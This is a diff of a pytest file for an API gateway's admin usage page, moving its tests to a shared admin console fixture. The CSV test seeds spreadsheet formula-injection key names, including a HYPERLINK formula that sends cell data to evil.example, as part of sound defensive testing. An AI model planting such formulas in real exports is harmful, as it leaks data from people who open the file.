@@ -9,7 +9,6 @@ import csv
 import io
 import re
 import time
-from collections.abc import AsyncIterator
 from typing import Any
 
 import pytest
@@ -49,16 +48,6 @@ async def seed(gw: Any, names: list[str], budget: dict[str, BudgetIn]) -> dict[s
     return {k.name: k for k in snapshot.keys.values()} | {"_route": snapshot.routes["chat"]}
 
 
-@pytest.fixture
-async def console(tmp_path) -> AsyncIterator[tuple[Any, AsyncTestClient[Any]]]:
-    gw = await make_admin_gateway(tmp_path)
-    app, _ = make_app(gw)
-    async with AsyncTestClient(app) as client:
-        assert (await login(client)).status_code == 303
-        yield gw, client
-    await gw.engine.dispose()
-
-
 def cells(html: str, table: str) -> list[dict[str, str]]:
     """``data-metric`` cells of each row of the table with id ``table``."""
     body = html.split(f'id="{table}"', 1)[1].split("</table>", 1)[0]
@@ -70,8 +59,8 @@ def cells(html: str, table: str) -> list[dict[str, str]]:
     return rows
 
 
-async def test_usage_page_charts_tables_budgets_and_csv(console):
-    gw, client = console
+async def test_usage_page_charts_tables_budgets_and_csv(admin_console):
+    gw, client = admin_console
     specs = await seed(gw, ["alice", "bob", XSS],
                        {"alice": BudgetIn(max_usd=0.0005, period="30d", alert_at=0.2),
                         "bob": BudgetIn(max_usd=1, period="1d", alert_at=0.8)})
@@ -143,8 +132,8 @@ async def test_usage_page_charts_tables_budgets_and_csv(console):
     {"period": "5y"}, {"period": "24h"}, {"period": "7d" * 300}, {"key": "nobody"},
     {"key": "x" * 5000},
 ])
-async def test_bad_filters_are_400_not_500(console, params):
-    gw, client = console
+async def test_bad_filters_are_400_not_500(admin_console, params):
+    gw, client = admin_console
     await seed(gw, ["alice"], {})
     for path in ("/admin/usage", "/admin/usage.csv"):
         r = await client.get(path, params=params, headers={"accept": "text/html"})
@@ -152,8 +141,8 @@ async def test_bad_filters_are_400_not_500(console, params):
         assert "period must be one of 1d, 7d, 30d, 90d" in r.text or "active API key" in r.text
 
 
-async def test_charts_are_bounded_and_the_rest_is_listed(console):
-    gw, client = console
+async def test_charts_are_bounded_and_the_rest_is_listed(admin_console):
+    gw, client = admin_console
     names = [f"team-{i:02d}" for i in range(15)]
     specs = await seed(gw, names, {})
     small = specs["_route"].variants[0]
@@ -181,11 +170,11 @@ async def test_counters_unreachable_is_503_not_500(tmp_path):
     await gw.engine.dispose()
 
 
-async def test_usage_csv_cannot_carry_a_spreadsheet_formula(console):
+async def test_usage_csv_cannot_carry_a_spreadsheet_formula(admin_console):
     """Key names are free text (a write token can choose one): before the fix a key
     named ``=HYPERLINK(...)`` reached the CSV as is, and a spreadsheet opening the
     download ran it. Cells that a spreadsheet reads as a formula are quoted with ``'``."""
-    gw, client = console
+    gw, client = admin_console
     names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd", "-2", "@SUM(1)",
              "\tx", "plain"]
     specs = await seed(gw, names, {})
